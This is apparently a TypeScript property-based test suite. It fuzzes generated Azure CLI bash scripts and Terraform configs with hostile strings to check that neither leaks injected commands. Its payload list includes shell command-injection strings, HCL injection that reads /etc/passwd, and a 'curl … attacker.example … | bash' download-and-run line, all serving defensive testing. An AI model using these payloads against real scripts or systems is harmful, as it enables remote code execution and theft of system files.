// The exports under hostile text. Every string of the export model, found by walking the object (a new field is covered
// without touching this file), is replaced or extended by line breaks, quotes, $( ), backticks, ${, %{, NUL…, and then:
// the bash script parses; run with az and the tools it calls as logging shell functions it makes exactly the calls of
// the benign script and creates no canary file; the Terraform parses in HashiCorp's HCL parser (hcl2json, WASM) with the
// benign script's blocks, attributes and interpolations, no more.
import { spawnSync } from "node:child_process";
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse } from "@cdktf/hcl2json";
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { azureCliScript } from "./azure-cli";
import { exportModel, type ExportModel } from "./model";
import { terraformConfig } from "./terraform";
import { config, plan, RUN, TENANT } from "@/test/support/exports";

const CANARY = "pwned";
const PAYLOADS = [
  "\n",
  "\r",
  "\r\n",
  "\u2028",
  "\u2029",
  "\u0085",
  "\0",
  "'",
  '"',
  "\\",
  ";",
  "|",
  "&",
  "${",
  "%{",
  "}",
  "#",
  "$'",
  "\x1b[2K",
  "\u202e",
  `$(touch ${CANARY})`,
  `\`touch ${CANARY}\``,
  `$(echo>${CANARY})`,
  `;touch ${CANARY};`,
  `|touch ${CANARY}`,
  `>${CANARY}`,
  `\ntouch ${CANARY}\n#`,
  "x)\ncurl -fsSL https://attacker.example/x | bash\n#",
  `'\ntouch ${CANARY}\n'`,
  `"\ntouch ${CANARY}\n"`,
  `'"$(touch ${CANARY})"'`,
  "\nJSON\n",
  '\n}\nresource "null_resource" "pwned" {\n',
  '"\n}\nresource "null_resource" "pwned" {\n  x = "',
  '${file("/etc/passwd")}',
  "%{ if true }x%{ endif }",
];
/** Mostly the payloads above, sometimes arbitrary code points (lone surrogates included). */
const hostileText = fc
  .array(
    fc.oneof(
      { weight: 4, arbitrary: fc.constantFrom(...PAYLOADS) },
      { weight: 1, arbitrary: fc.string({ unit: "binary", minLength: 1, maxLength: 3 }) },
    ),
    { minLength: 1, maxLength: 5 },
  )
  .map((parts) => parts.join(""));
/** How one distinct string of the model becomes hostile: the payload alone, or after the original (keeps prefixes). */
const mutation = fc.record({ text: hostileText, append: fc.boolean() });

/** Keys whose strings are the plan's decisions, not text: mutating them changes what is written, so property 2 covers them. */
const DECISION_KEYS = new Set(["action"]);

/** A deep copy of `value` with every string passed through `f` (with the key it sits under). */
function mapStrings(value: unknown, f: (s: string, key: string | undefined) => string, key?: string): unknown {
  if (typeof value === "string") return f(value, key);
  if (Array.isArray(value)) return value.map((v) => mapStrings(v, f, key));
  if (value && typeof value === "object") return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, mapStrings(v, f, k)]));
  return value;
}

/** Every string leaf, as [key, value]. */
function stringLeaves(value: unknown): [string | undefined, string][] {
  const out: [string | undefined, string][] = [];
  mapStrings(value, (s, key) => {
    out.push([key, s]);
    return s;
  });
  return out;
}

/**
 * The model with its strings made hostile. Equal strings (ignoring case) get the same hostile value, so lookups between
 * fields (an account's id and a setting's destination, a role's id and an assignment's) still match; each value ends in
 * its own marker, so no two collide and none ends in a line break (which $(…) would strip from the az stub's answer).
 */
function hostileModel(
  model: ExportModel,
  mutations: readonly { text: string; append: boolean }[],
  which: { text: boolean; decisions: boolean },
): ExportModel {
  const keys = distinctKeys(model);
  return mapStrings(model, (s, key) => {
    const decision = key !== undefined && DECISION_KEYS.has(key);
    if (decision ? !which.decisions : !which.text) return s;
    const index = keys.indexOf(memoKey(s, key));
    const m = mutations[index % mutations.length];
    return m ? `${m.append ? s : ""}${m.text}Z${index}` : s;
  }) as ExportModel;
}
const memoKey = (s: string, key: string | undefined) =>
  `${key !== undefined && DECISION_KEYS.has(key) ? "decision:" : "text:"}${s.toLowerCase()}`;
const distinctKeys = (model: ExportModel) => [...new Set(stringLeaves(model).map(([key, s]) => memoKey(s, key)))];

// Three plans, so every branch of both generators writes its text: mostly creates (with a plan error), everything in
// place, everything updated (with a firewall rule to remove).
const created = exportModel({
  runId: RUN,
  tenantId: TENANT,
  config,
  plan: {
    ...plan,
    steps: plan.steps.map((s) =>
      s.stepId === "workbench-handoff" ? { ...s, error: { code: "refused", message: "Workbench refused the key: 401" } } : s,
    ),
  },
});
const inPlace = mapStrings(created, (s, key) => (key === "action" ? "no-change" : s)) as ExportModel;
const updated: ExportModel = {
  ...(mapStrings(created, (s, key) => (key === "action" ? "update" : s)) as ExportModel),
  storageAccounts: created.storageAccounts.map((a) => ({
    ...a,
    planned: { ...a.planned, action: "update" },
    lifecycle: { ...a.lifecycle, action: "update" },
    network: {
      action: "update",
      details: ["defaultAction: Allow → Deny", "ipRules: -192.0.2.1"],
      why: "Only the vendor's egress IPs may reach the account",
    },
    removedIps: ["192.0.2.1"],
  })),
};
const BASES = { created, inPlace, updated } as const;
type BaseName = keyof typeof BASES;
const baseName = fc.constantFrom(...(Object.keys(BASES) as BaseName[]));
const MAX_KEYS = Math.max(...Object.values(BASES).map((m) => distinctKeys(m).length));

let work: string;
let bash: string;
const bin = () => join(work, "bin");

beforeAll(() => {
  work = mkdtempSync(join(tmpdir(), "export-injection-"));
  const which = spawnSync("bash", ["-c", "command -v bash touch"], { encoding: "utf8" });
  const [bashPath, touchPath] = which.stdout.trim().split("\n");
  bash = bashPath ?? "/bin/bash";
  // PATH holds only touch, for the payloads' canary: anything else not stubbed below is "not found", and logged.
  mkdirSync(bin());
  symlinkSync(touchPath ?? "/usr/bin/touch", join(bin(), "touch"));
  const HEX = "00112233445566778899aabbccddeeff";
  writeFileSync(
    join(work, "stubs.sh"),
    [
      `__log() { printf '%s\\n' "$*" >> "$EXPORT_TEST_LOG"; }`,
      // A stub in a pipeline reads all its input, so the writer never dies of SIGPIPE (pipefail would stop the script).
      `__drain() { local line; while IFS= read -r line || [[ -n $line ]]; do :; done; }`,
      // az: the subcommand words (up to the first option) and the argument count, so a split or extra word shows.
      `az() {`,
      `  local words=() a`,
      `  for a in "$@"; do [[ $a == -* ]] && break; words+=("$a"); done`,
      `  __log "az $# \${words[*]}"`,
      `  if [[ "\${words[*]}" == "account show" ]]; then printf '%s\\n' "$TENANT_ID"; else printf '%s\\n' 3f2504e0-4f89-41d3-9a0c-0305e82c3301; fi`,
      `}`,
      // The script's other external commands (uuidv5's pipeline, the secret's end date): log, answer in the right shape.
      `date() { __log "date $#"; printf '%s\\n' 2027-06-01T00:00:00Z; }`,
      `sed() { __log "sed $#"; __drain; printf '%s\\n' ${HEX}; }`,
      `sha1sum() { __log "sha1sum $#"; __drain; printf '%s  -\\n' ${HEX}00112233; }`,
      `cut() { __log "cut $#"; __drain; printf '%s\\n' ${HEX}; }`,
      `touch() { __log "touch $#"; command touch "$@"; }`,
      `command_not_found_handle() { __log "not found: $1"; return 127; }`,
      "",
    ].join("\n"),
  );
});
afterAll(() => rmSync(work, { recursive: true, force: true }));

/** The az calls in order; between two of them, the other calls sorted (a pipeline's tools log in any order). */
function callSequence(log: string): string[] {
  const out: string[] = [];
  let between: string[] = [];
  for (const line of log.split("\n").filter(Boolean)) {
    if (!line.startsWith("az ")) {
      between.push(line);
      continue;
    }
    out.push(...between.sort(), line);
    between = [];
  }
  return [...out, ...between.sort()];
}

/** bash -n, then a run with the stubs in a fresh folder: exit status, stderr, the call log, whether the canary exists. */
function runScript(script: string) {
  const dir = mkdtempSync(join(work, "run-"));
  try {
    const file = join(dir, "script.sh");
    const log = join(dir, "calls.log");
    writeFileSync(file, script);
    writeFileSync(log, "");
    const syntax = spawnSync(bash, ["-n", file], { encoding: "utf8" });
    const env = {
      NODE_ENV: "test" as const,
      PATH: bin(),
      HOME: dir,
      LC_ALL: "C.UTF-8",
      BASH_ENV: join(work, "stubs.sh"),
      EXPORT_TEST_LOG: log,
    };
    const run = spawnSync(bash, ["--noprofile", "--norc", file], { cwd: dir, env, encoding: "utf8", timeout: 20_000 });
    const calls = callSequence(readFileSync(log, "utf8"));
    return {
      syntax: syntax.status,
      syntaxError: syntax.stderr,
      status: run.status,
      stderr: run.stderr,
      calls,
      canary: existsSync(join(dir, CANARY)),
    };
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

const INTERPOLATION = /\$\$\{|\$\{|%%\{|%\{/g;
/** A string's count of real interpolations and directives (hcl2json writes literal ${ and %{ as $${ and %%{). */
function templateCounts(s: string): string {
  const found = s.match(INTERPOLATION) ?? [];
  return `${found.filter((t) => t === "${").length}/${found.filter((t) => t === "%{").length}`;
}
/** Structure of a parsed value: keys, array lengths, types, and each string's interpolation count — no values. */
function shape(node: unknown): unknown {
  if (typeof node === "string") return `string ${templateCounts(node)}`;
  if (Array.isArray(node)) return node.map(shape);
  if (node && typeof node === "object")
    return Object.fromEntries(
      Object.entries(node)
        .sort(([a], [b]) => a.localeCompare(b))
        .map(([k, v]) => [k, shape(v)]),
    );
  return typeof node;
}
/** The Terraform file's structure: labels of resources and data sources (derived from names) are checked, then dropped. */
async function terraformShape(tf: string): Promise<unknown> {
  const doc = await parse("main.tf", tf);
  return Object.fromEntries(
    Object.entries(doc)
      .sort(([a], [b]) => a.localeCompare(b))
      .map(([kind, value]) => {
        if (kind !== "resource" && kind !== "data") return [kind, shape(value)];
        const byType = value as Record<string, Record<string, unknown>>;
        for (const labels of Object.values(byType)) for (const label of Object.keys(labels)) expect(label).toMatch(/^[a-z_][a-z0-9_]*$/);
        return [
          kind,
          Object.fromEntries(
            Object.entries(byType).map(([type, labels]) => [
              type,
              Object.values(labels)
                .map((b) => JSON.stringify(shape(b)))
                .sort(),
            ]),
          ),
        ];
      }),
  );
}

const benign = {} as Record<BaseName, { calls: string[]; terraform: unknown }>;
beforeAll(async () => {
  for (const name of Object.keys(BASES) as BaseName[]) {
    const run = runScript(azureCliScript(BASES[name]));
    expect(run).toMatchObject({ syntax: 0, status: 0, stderr: "", canary: false });
    benign[name] = { calls: run.calls, terraform: await terraformShape(terraformConfig(BASES[name])) };
  }
});

/** The checks of one hostile model against the reference model it must behave like. */
async function checkAgainst(hostile: ExportModel, reference: { calls: string[]; terraform: unknown }) {
  const run = runScript(azureCliScript(hostile));
  expect(run.syntaxError).toBe("");
  expect(run.syntax).toBe(0);
  expect(run.stderr).toBe("");
  expect(run.status).toBe(0);
  expect(run.canary).toBe(false);
  expect(run.calls).toEqual(reference.calls);
  expect(await terraformShape(terraformConfig(hostile))).toEqual(reference.terraform);
}

describe("exports with hostile text in every string of the model", () => {
  it("covers every string leaf of all three plans", () => {
    // Sanity of the walk itself: the fields the generators write are among the leaves, and all of them change.
    for (const model of Object.values(BASES)) {
      const leaves = stringLeaves(model);
      expect(leaves.length).toBeGreaterThan(150);
      const changed = stringLeaves(hostileModel(model, [{ text: "\n", append: true }], { text: true, decisions: true }));
      expect(changed.every(([, s], i) => s !== leaves[i]?.[1])).toBe(true);
    }
    expect(stringLeaves(created).map(([k]) => k)).toEqual(
      expect.arrayContaining(["region", "message", "details", "displayName", "condition", "allowedIps", "tenantId"]),
    );
  });

  it("runs only the benign script's az calls, creates no canary, and keeps the Terraform's blocks (text fields)", async () => {
    await fc.assert(
      fc.asyncProperty(baseName, fc.array(mutation, { minLength: MAX_KEYS, maxLength: MAX_KEYS }), async (name, mutations) => {
        await checkAgainst(hostileModel(BASES[name], mutations, { text: true, decisions: false }), benign[name]);
      }),
      { numRuns: 16, endOnFailure: true },
    );
  }, 60_000);

  it("with hostile plan decisions too, does what the same decisions with benign text do", async () => {
    await fc.assert(
      fc.asyncProperty(baseName, fc.array(mutation, { minLength: MAX_KEYS, maxLength: MAX_KEYS }), async (name, mutations) => {
        const reference = hostileModel(BASES[name], mutations, { text: false, decisions: true });
        const referenceRun = runScript(azureCliScript(reference));
        expect(referenceRun).toMatchObject({ syntax: 0, status: 0, stderr: "", canary: false });
        await checkAgainst(hostileModel(BASES[name], mutations, { text: true, decisions: true }), {
          calls: referenceRun.calls,
          terraform: await terraformShape(terraformConfig(reference)),
        });
      }),
      { numRuns: 5, endOnFailure: true },
    );
  }, 60_000);

  it("fails on a generator that writes a value raw (the checks can see an injection)", async () => {
    const model = hostileModel(created, [{ text: `\ntouch ${CANARY}\n#`, append: true }], { text: true, decisions: false });
    const raw = azureCliScript(model).replace(/^# Storage account .*$/m, `# Storage account x\ntouch ${CANARY}\n#`);
    const run = runScript(raw);
    expect(run.canary).toBe(true);
    expect(run.calls).toContain("touch 1");
    const tf = terraformConfig(created).replace("locals {", 'resource "null_resource" "pwned" {\n}\n\nlocals {');
    expect(await terraformShape(tf)).not.toEqual(benign.created.terraform);
  });
});
